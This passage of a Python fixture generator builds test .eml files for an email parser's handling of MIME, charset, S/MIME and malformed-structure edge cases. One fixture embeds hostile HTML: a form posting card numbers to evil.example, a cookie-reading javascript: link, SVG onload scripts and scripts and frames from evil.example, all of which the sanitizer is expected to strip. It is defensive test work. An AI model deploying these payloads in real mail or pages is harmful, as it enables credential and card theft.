.hero { background-image: -webkit-image-set("https://cdn.example/set.png" 1x); }
</style>
<link rel="stylesheet" href="https://cdn.example/link.css">
</head>
<body background="https://cdn.example/body-bg.jpg" onload="track()">
<h1>Black Friday</h1>
<img src="images/relative.png" alt="relative">
<img src="https://track.example/open.gif?u=7" width="1" height="1" style="display:none">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline data">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg data">
<img srcset="https://cdn.example/a.png 1x, https://cdn.example/b.png 2x" alt="srcset">
<table background="https://cdn.example/table.png"><tr><td style="background:url(https://cdn.example/td.png)">Deals</td></tr></table>
<div style="background:\\75rl(https://cdn.example/escaped.png)">escaped</div>
<p style="background-image:image-set('https://cdn.example/attr-set.png' 1x)">set</p>
<svg width="10" height="10" onload="alert(1)"><script>alert('svg')</script><image href="https://cdn.example/svg.png"/></svg>
<form action="https://evil.example/collect" method="post"><input type="text" name="card"><input type="image" src="https://cdn.example/submit.png"><button formaction="https://evil.example/b">Buy</button></form>
<a href="https://shop.example/deal?id=1" onclick="steal()">Shop now</a>
<a href="javascript:alert(document.cookie)">js</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">data link</a>
<video poster="https://cdn.example/poster.jpg"><source src="https://cdn.example/v.mp4"></video>
<object data="https://cdn.example/o.swf"></object>
<iframe src="https://evil.example/frame"></iframe>
<script src="https://evil.example/s.js"></script>
</body></html>
"""
write(
    "html_only_hostile_newsletter.eml",
    [
        b"From: Shop <news@shop.example>",
        b"To: customer@example.com",
        b"Subject: Black Friday",
        b"MIME-Version: 1.0",
        b"Content-Type: text/html; charset=utf-8",
        b"Content-Transfer-Encoding: quoted-printable",
        b"",
        quopri.encodestring(newsletter.encode()),
    ],
    {
        "text": None,
        "html_contains": [
            "Black Friday",
            "Deals",
            'href="https://shop.example/deal?id=1"',
            'src="data:image/png;base64,iVBORw0KGgo="',
        ],
        "html_not_contains": [
            "<script",
            "onload",
            "onclick",
            "<form",
            "<input",
            "<button",
            "<iframe",
            "<object",
            "<svg",
            "<meta",
            "<base",
            "<link",
            "javascript:",
            "data:text/html",
            "data:image/svg",
            "image-set",
            "\\75rl",
            "cdn.example",
            "track.example",
            "evil.example",
        ],
        "remote_contains": [
            "https://evil.example/refresh",
            "https://cdn.example/link.css",
            "https://cdn.example/body-bg.jpg",
            "https://cdn.example/css-bg.png",
            "https://cdn.example/import.css",
            "https://cdn.example/set.png",
            "https://cdn.example/newsletter/images/relative.png",
            "https://track.example/open.gif?u=7",
            "https://cdn.example/a.png",
            "https://cdn.example/b.png",
            "https://cdn.example/table.png",
            "https://cdn.example/td.png",
            "https://cdn.example/attr-set.png",
            "https://cdn.example/poster.jpg",
            "https://cdn.example/o.swf",
        ],
        "attachments": [],
        "defects": [],
    },
)

# 19. Gmail forward with a quoted-printable HTML part whose soft breaks split a multi-byte character
#     and an RFC 2047 filename longer than one word (split across words inside the quotes).
gmail_name = "연간 실적 보고서 최종본 (수정).pdf"
gmail_name_bytes = gmail_name.encode()
write(
    "gmail_split_qp_and_long_filename.eml",
    [
        b"MIME-Version: 1.0",
        b"From: =?UTF-8?B?" + base64.b64encode("이영희".encode()) + b"?= <younghee@gmail.example>",
        b"Date: Fri, 13 Nov 2026 07:00:00 +0900",
        b"Subject: Fwd: report",
        b"To: boss@example.com",
        b'Content-Type: multipart/mixed; boundary="0000000000001111"',
        b"",
        b"--0000000000001111",
        b'Content-Type: text/html; charset="UTF-8"',
        b"Content-Transfer-Encoding: quoted-printable",
        b"",
        b'<div dir=3D"ltr">=EC=97=B0=EA=B0=84 =EC=8B=A4=EC=A0=81=EC=9E=85=EB=8B=88=EB=8B=',
        b"=A4.</div>",
        b"--0000000000001111",
        b'Content-Type: application/pdf; name="=?UTF-8?B?' + base64.b64encode(gmail_name_bytes[:16]) + b"?=",
        b" =?UTF-8?B?" + base64.b64encode(gmail_name_bytes[16:]) + b'?="',
        b'Content-Disposition: attachment; filename="=?UTF-8?B?'
        + base64.b64encode(gmail_name_bytes[:16])
        + b"?=",
        b" =?UTF-8?B?" + base64.b64encode(gmail_name_bytes[16:]) + b'?="',
        b"Content-Transfer-Encoding: base64",
        b"X-Attachment-Id: f_abc",
        b"Content-ID: <f_abc>",
        b"",
        b64(apple_pdf),
        b"--0000000000001111--",
    ],
    {
        "from": [["이영희", "younghee@gmail.example"]],
        "html_contains": ["연간 실적입니다."],
        "attachments": [att(gmail_name, apple_pdf, "application/pdf", safe_filename=gmail_name)],
        "defects": [],
    },
)

# 20. Bare CR-LF mix and a message/rfc822 attachment that is base64 encoded (some webmails do this).
inner_message = b"From: inner@example.com\r\nSubject: inner subject\r\n\r\ninner body\r\n"
write(
    "rfc822_base64_attachment.eml",
    [
        b"From: outer@example.com",
        b"Subject: outer",
        b"MIME-Version: 1.0",
        b"Content-Type: multipart/mixed; boundary=zz",
        b"",
        b"--zz",
        b"Content-Type: text/plain",
        b"",
        b"see attached",
        b"--zz",
        b'Content-Type: message/rfc822; name="inner.eml"',
        b"Content-Transfer-Encoding: base64",
        b'Content-Disposition: attachment; filename="inner.eml"',
        b"",
        b64(inner_message),
        b"--zz--",
        b"",
    ],
    {
        "text_contains": ["see attached"],
        "text_not_contains": ["inner body"],
        "paths": ["1", "2", "2.1"],
        "attachments": [att("inner.eml", inner_message, "message/rfc822")],
        "defects": [],
    },
)

# 21. Old Apple Mail: an inline image named only by Content-Location, in a plain-text message.
jpeg = b"\xff\xd8\xff\xe0" + bytes(range(90))
write(
    "apple_mail_content_location.eml",
    [
        b"Mime-Version: 1.0 (Apple Message framework v730)",
        b"Content-Type: multipart/mixed; boundary=Apple-Mail-13-196941151",
        b"From: photo@example.com",
        b"Subject: photo",
        b"",
        b"",
        b"--Apple-Mail-13-196941151",
        b"Content-Transfer-Encoding: quoted-printable",
        b"Content-Type: text/plain;",
        b"\tcharset=ISO-8859-1;",
        b"\tdelsp=yes;",
        b"\tformat=flowed",
        b"",
        b"Voil=E0 la photo.",
        b"",
        b"--Apple-Mail-13-196941151",
        b"Content-Type: image/jpeg",
        b"Content-Transfer-Encoding: base64",
        b"Content-Location: Photo%2025.jpg",
        b"Content-ID: <qbFGyPQAS8>",
        b"Content-Disposition: inline",
        b"",
        b64(jpeg),
        b"",
        b"--Apple-Mail-13-196941151--",
        b"",
    ],
    {
        "text_contains": ["Voilà la photo."],
        "attachments": [att("Photo 25.jpg", jpeg, "image/jpeg", inline=True)],
        "defects": [],
    },
    newline=b"\n",
)

# 22. A boundary with 8-bit characters (latin-1 bytes in the header and in the delimiter lines).
write(
    "latin1_boundary.eml",
    [
        b"From: legacy@example.de",
        b"Subject: =?iso-8859-1?Q?Gr=FC=DFe?=",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/alternative; boundary="Grenze-\xb5-\xe4"',
        b"",
        b"--Grenze-\xb5-\xe4",
        b"Content-Type: text/plain; charset=iso-8859-1",
        b"Content-Transfer-Encoding: 8bit",
        b"",
        b"Sch\xf6ne Gr\xfc\xdfe",
        b"--Grenze-\xb5-\xe4",
        b"Content-Type: text/html; charset=iso-8859-1",
        b"Content-Transfer-Encoding: 8bit",
        b"",
        b"<p>Sch\xf6ne Gr\xfc\xdfe</p>",
        b"--Grenze-\xb5-\xe4--",
        b"",
    ],
    {
        "subject": "Grüße",
        "text": "Schöne Grüße",
        "html_contains": ["<p>Schöne Grüße</p>"],
        "paths": ["1", "2"],
        "attachments": [],
        "defects": [],
    },
)

# 23. A calendar reply that is nothing but text/calendar (no text alternative), with an epilogue.
reply_ics = b"BEGIN:VCALENDAR\r\nMETHOD:REPLY\r\nBEGIN:VEVENT\r\nSUMMARY:Accepted: Weekly\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
write(
    "calendar_only_reply.eml",
    [
        b"From: attendee@example.com",
        b"Subject: Accepted: Weekly",
        b"MIME-Version: 1.0",
        b"Content-Type: multipart/mixed; boundary=cal",
        b"",
        b"--cal",
        b'Content-Type: text/calendar; charset="utf-8"; method=REPLY',
        b"",
        reply_ics.rstrip(b"\r\n"),
        b"--cal--",
        b"This epilogue is not part of any body part.",
        b"",
    ],
    {
        "text_contains": ["SUMMARY:Accepted: Weekly"],
        "text_not_contains": ["epilogue"],
        "attachments": [],
        "defects": [],
    },
)

# 24. A scanner that sends the PDF as the whole message, without a name; classic Mac OS CR line ends.
scan = b"%PDF-1.3\n" + bytes(range(40)) + b"%%EOF"
write(
    "bare_pdf_message_cr.eml",
    [
        b"From: scanner@example.com",
        b"Subject: Scan",
        b"MIME-Version: 1.0",
        b"Content-Type: application/pdf",
        b"Content-Transfer-Encoding: base64",
        b"",
        base64.b64encode(scan),
        b"",
    ],
    {
        "subject": "Scan",
        "from": [["", "scanner@example.com"]],
        "text": None,
        "attachments": [att(None, scan, "application/pdf", safe_filename="attachment-1.pdf")],
        "defects": [],
    },
    newline=b"\r",
)

# 25. Legacy mislabels: a Korean body labelled iso-8859-1, another labelled UTF-8 but in EUC-KR,
#     an RFC 2231 name with an empty charset, a Windows path as filename (Outlook Express, old IE).
doc = b"\xd0\xcf\x11\xe0" + bytes(60)
write(
    "legacy_mislabels.eml",
    [
        b"From: webmaster@example.co.kr",
        b"Subject: =?iso-8859-1?B?" + base64.b64encode("공지사항 안내".encode("cp949")) + b"?=",
        b"MIME-Version: 1.0",
        b"Content-Type: multipart/mixed; boundary=legacy",
        b"",
        b"--legacy",
        b"Content-Type: text/plain; charset=iso-8859-1",
        b"Content-Transfer-Encoding: 8bit",
        b"",
        "안녕하세요. 공지사항을 알려드립니다.".encode("cp949"),
        b"--legacy",
        b"Content-Type: text/plain; charset=utf-8",
        b"Content-Transfer-Encoding: base64",
        b"",
        b64("회원 여러분께 감사드립니다.".encode("cp949")),
        b"--legacy",
        b"Content-Type: application/octet-stream",
        b"Content-Disposition: attachment; filename*=''" + quote("공지.txt".encode("cp949")).encode(),
        b"",
        b"notice",
        b"--legacy",
        b'Content-Type: application/msword; name="C:\\Documents and Settings\\kim\\My Documents\\report.doc"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(doc),
        b"--legacy--",
        b"",
    ],
    {
        "subject": "공지사항 안내",
        "text_contains": ["안녕하세요. 공지사항을 알려드립니다.", "회원 여러분께 감사드립니다."],
        "attachments": [
            att("공지.txt", b"notice", "application/octet-stream"),
            att(
                "C:\\Documents and Settings\\kim\\My Documents\\report.doc",
                doc,
                "application/msword",
                safe_filename="report.doc",
            ),
        ],
        "defects_include": ["charset-mismatch"],
    },
)


# 26. Opaque S/MIME signing (Outlook without "clear text signed"): the whole message inside a
#     CMS SignedData blob, BER with indefinite lengths and the content in 1000-byte octet chunks.
#     The structure is built here (no real signature: qtmail shows the content, it verifies nothing).
def der(tag: int, content: bytes) -> bytes:
    length = len(content)
    if length < 0x80:
        return bytes((tag, length)) + content
    size = (length.bit_length() + 7) // 8
    return bytes((tag, 0x80 | size)) + length.to_bytes(size, "big") + content


def ber_indefinite(tag: int, *children: bytes) -> bytes:
    return bytes((tag, 0x80)) + b"".join(children) + b"\x00\x00"


signed_inner = b"\r\n".join(
    [
        b'Content-Type: multipart/mixed; boundary="inner-signed"',
        b"",
        b"--inner-signed",
        b'Content-Type: text/plain; charset="ks_c_5601-1987"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64("서명된 메시지입니다. 똠방각하.".encode("cp949")),
        b"--inner-signed",
        b'Content-Type: application/pdf; name="contract.pdf"',
        b'Content-Disposition: attachment; filename="contract.pdf"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(apple_pdf),
        b"--inner-signed--",
        b"",
    ]
)
oid_data = der(0x06, bytes.fromhex("2a864886f70d010701"))
oid_signed = der(0x06, bytes.fromhex("2a864886f70d010702"))
sha256 = der(0x30, der(0x06, bytes.fromhex("608648016503040201")) + b"\x05\x00")
chunks = [der(0x04, signed_inner[i : i + 1000]) for i in range(0, len(signed_inner), 1000)]
signed_blob = ber_indefinite(
    0x30,
    oid_signed,
    ber_indefinite(
        0xA0,
        ber_indefinite(
            0x30,
            der(0x02, b"\x01"),
            der(0x31, sha256),
            ber_indefinite(0x30, oid_data, ber_indefinite(0xA0, ber_indefinite(0x24, *chunks))),
            der(0x31, b""),
        ),
    ),
)
write(
    "smime_opaque_signed.eml",
    [
        b"From: =?ks_c_5601-1987?B?"
        + base64.b64encode("김서명".encode("cp949"))
        + b"?= <sign@example.co.kr>",
        b"To: rcpt@example.com",
        b"Subject: opaque signed",
        b"MIME-Version: 1.0",
        b'Content-Type: application/x-pkcs7-mime; smime-type=signed-data; name="smime.p7m"',
        b"Content-Transfer-Encoding: base64",
        b'Content-Disposition: attachment; filename="smime.p7m"',
        b"",
        b64(signed_blob),
        b"",
    ],
    {
        "from": [["김서명", "sign@example.co.kr"]],
        "text_contains": ["서명된 메시지입니다. 똠방각하."],
        "paths": ["1", "1.1", "1.2"],
        "attachments": [
            att("smime.p7m", signed_blob, "application/x-pkcs7-mime"),
            att("contract.pdf", apple_pdf, "application/pdf"),
        ],
        "defects": [],
    },
)

# 27. Mailing list software: a text footer part after the sender's multipart/alternative.
write(
    "list_footer_after_alternative.eml",
    [
        b"From: member@example.org",
        b"To: list@lists.example.org",
        b"Subject: [list] hello",
        b"List-Id: <list.lists.example.org>",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="===============0123456789=="',
        b"",
        b"--===============0123456789==",
        b'Content-Type: multipart/alternative; boundary="000000000000abcdef"',
        b"",
        b"--000000000000abcdef",
        b'Content-Type: text/plain; charset="UTF-8"',
        b"",
        b"Hello list",
        b"--000000000000abcdef",
        b'Content-Type: text/html; charset="UTF-8"',
        b"",
        b"<div>Hello <b>list</b></div>",
        b"--000000000000abcdef--",
        b"",
        b"--===============0123456789==",
        b'Content-Type: text/plain; charset="us-ascii"',
        b"MIME-Version: 1.0",
        b"Content-Transfer-Encoding: 7bit",
        b"Content-Disposition: inline",
        b"",
        b"_______________________________________________",
        b"list mailing list <list@lists.example.org>",
        b"--===============0123456789==--",
        b"",
    ],
    {
        "text_contains": ["Hello list", "list mailing list <list@lists.example.org>"],
        "html_contains": ["<b>list</b>", "list mailing list &lt;list@lists.example.org&gt;"],
        "attachments": [],
        "defects": [],
    },
)

# 28. Structure edge cases from broken generators: a boundary made of dashes that a longer dash line
#     only starts with, a multipart holding nothing but its closing delimiter, a whole message that is
#     a base64 message/rfc822 holding another message/rfc822.
write(
    "dash_boundary_no_delimiter.eml",
    [
        b"Subject: dashes",
        b'Content-Type: multipart/related; boundary="----------"',
        b"",
        b"--------------not-a-delimiter",
        b"the text must not be lost",
        b"",
    ],
    {
        "text_contains": ["the text must not be lost"],
        "attachments": [],
        "defects_include": ["missing-start-boundary"],
    },
)
write(
    "close_delimiter_only.eml",
    [
        b"Subject: close only",
        b"Content-Type: multipart/mixed; boundary=b",
        b"",
        b"all the text sits before the closing delimiter",
        b"--b--",
        b"",
    ],
    {
        "text": "all the text sits before the closing delimiter",
        "attachments": [],
        "defects_include": ["missing-start-boundary"],
    },
)
doubly_inner = b"Content-Type: message/rfc822\n\nSubject: innermost\n\ninnermost body\n"
write(
    "message_rfc822_as_whole_message.eml",
    [
        b"Subject: wrapper",
        b"Content-Type: message/rfc822",
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(doubly_inner),
        b"",
    ],
    {
        "subject": "wrapper",
        "text": "innermost body\n",
        "paths": ["1", "1.1", "1.1.1"],
        "attachments": [],
        "defects": [],
    },
)

# 29. Bounce that returns the whole original as message/rfc822 without any Content-Disposition,
#     and a part whose headers run straight into the next delimiter (no blank line, no body).
original = b"From: sender@example.com\r\nTo: gone@example.org\r\nSubject: quarterly report\r\n\r\nthe original text\r\n"
write(
    "bounce_with_original_message.eml",
    [
        b"From: Mail Delivery Subsystem <mailer-daemon@mx.example.com>",
        b"Subject: Delivery Status Notification (Failure)",
        b"MIME-Version: 1.0",
        b'Content-Type: multipart/report; report-type=delivery-status; boundary="bounce"',
        b"",
        b"--bounce",
        b"Content-Type: text/plain",
        b"--bounce",
        b"Content-Type: text/plain; charset=us-ascii",
        b"",
        b"Your message could not be delivered to gone@example.org.",
        b"--bounce",
        b"Content-Type: message/delivery-status",
        b"",
        b"Final-Recipient: rfc822; gone@example.org",
        b"Action: failed",
        b"Status: 5.1.1",
        b"--bounce",
        b"Content-Description: Undelivered Message",
        b"Content-Type: message/rfc822",
        b"",
        original.rstrip(b"\r\n"),
        b"--bounce--",
        b"",
    ],
    {
        "text": "Your message could not be delivered to gone@example.org.",
        "paths": ["1", "2", "3", "4", "4.1"],
        "attachments": [
            {"filename": None, "content_type": "message/rfc822", "safe_filename": "quarterly report.eml"}
        ],
        "defects": [],
    },
)

# 30. A file with neither name nor disposition between two text parts of a multipart/mixed.
nameless_png = b"\x89PNG\r\n\x1a\n" + bytes(20)
write(
    "nameless_file_in_mixed.eml",
    [
        b"Subject: nameless",
        b"Content-Type: multipart/mixed; boundary=m",
        b"",
        b"--m",
        b"Content-Type: text/plain",
        b"",
        b"first",
        b"--m",
        b"Content-Type: image/png",
        b"Content-Transfer-Encoding: base64",
        b"",
        base64.b64encode(nameless_png),
        b"--m",
        b"Content-Type: text/html",
        b"",
        b"<p>third</p>",
        b"--m--",
        b"",
    ],
    {
        "text": "first",
        "html_contains": ["first", "<p>third</p>"],
        "attachments": [att(None, nameless_png, "image/png", safe_filename="attachment-2.png")],
        "defects": [],
    },
)

corpus.save()
